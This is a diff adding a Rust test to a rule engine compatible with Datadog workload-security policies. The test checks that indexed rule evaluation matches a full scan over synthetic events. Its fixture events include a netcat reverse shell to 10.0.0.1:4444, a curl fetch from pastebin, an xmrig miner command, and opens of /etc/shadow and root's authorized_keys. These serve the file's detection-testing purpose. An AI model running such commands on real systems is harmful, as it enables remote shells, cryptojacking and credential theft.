@@ -58,3 +58,64 @@ fn datadog_default_policy_compiles() {
     let linux = c.rules - 37;
     assert!(c.loaded * 100 >= linux * 95, "only {}/{linux} Linux rules load", c.loaded);
 }
+
+/// The rule index (pre-selection by field value) must select exactly the rules a full scan matches.
+#[test]
+fn indexed_evaluation_equals_a_full_scan() {
+    use rampart_model::events::{FileTarget, OpenEvent};
+    use rampart_model::{Event, EventData, FileInfo, Process, ProcessContext, ProcessNode};
+    use rampart_secl::{Cx, MemoryStore};
+    let path = corpus();
+    assert!(path.exists(), "compatibility corpus missing: {}", path.display());
+    let opts = LoadOptions { host: HostInfo::default(), agent_version: None, typecheck_filtered: false };
+    let rs = load_paths(&[path], &opts).unwrap().ruleset;
+    let mut events = Vec::new();
+    let execs: &[(&str, &[&str])] = &[
+        ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
+        ("/usr/bin/apt-get", &["apt-get", "install", "linux-headers-generic"]),
+        ("/usr/bin/curl", &["curl", "http://pastebin.com/raw/x"]),
+        ("/tmp/xmrig", &["xmrig", "--donate-level=1", "-o", "stratum+tcp://pool:3333"]),
+        ("/usr/bin/ls", &["ls", "-la"]),
+        ("/usr/bin/python3", &["python3", "KubiScan.py"]),
+    ];
+    for (parent, leaf) in [("/usr/sbin/nginx", 0usize), ("/usr/sbin/sshd", 1), ("/usr/bin/containerd-shim", 2)] {
+        for (bin, argv) in execs.iter().skip(leaf % 2) {
+            let p =
+                ProcessNode::new(Process { pid: 10, file: FileInfo::from_path(parent), ..Default::default() }, None);
+            let mut c = Process {
+                pid: 20,
+                file: FileInfo::from_path(*bin),
+                comm: FileInfo::from_path(*bin).name,
+                ..Default::default()
+            };
+            c.set_argv(argv.iter().map(|s| s.to_string()).collect());
+            c.credentials.auid = u32::MAX;
+            let node = ProcessNode::new(c, Some(p));
+            let mut ev = Event::new(1, ProcessContext::new(node.clone()), EventData::Exec(node.process.clone()));
+            ev.event.origin = "ebpf".into();
+            events.push(ev);
+        }
+    }
+    for (path, flags) in
+        [("/etc/shadow", 1), ("/etc/sudoers.d/x", 0o101), ("/root/.ssh/authorized_keys", 2), ("/srv/x", 0)]
+    {
+        let node = ProcessNode::new(
+            Process { pid: 30, file: FileInfo::from_path("/usr/bin/vim"), ..Default::default() },
+            None,
+        );
+        let data = EventData::Open(OpenEvent { file: FileTarget::from_path(path), flags, retval: 0, syscall: None });
+        events.push(Event::new(1, ProcessContext::new(node), data));
+    }
+    let mut total = 0;
+    for ev in &events {
+        let store = MemoryStore::new();
+        let indexed: Vec<String> = rs.evaluate(ev, &store).iter().map(|m| m.rule.id.clone()).collect();
+        let store = MemoryStore::new();
+        let cx = Cx::new(ev, &store);
+        let full: Vec<String> =
+            rs.rules_for(ev.event_type()).iter().filter(|r| r.matches(&cx)).map(|r| r.id.clone()).collect();
+        assert_eq!(indexed, full, "event {}", serde_json::to_string(ev).unwrap());
+        total += full.len();
+    }
+    assert!(total >= 8, "the fixture events should trigger several rules, got {total}");
+}
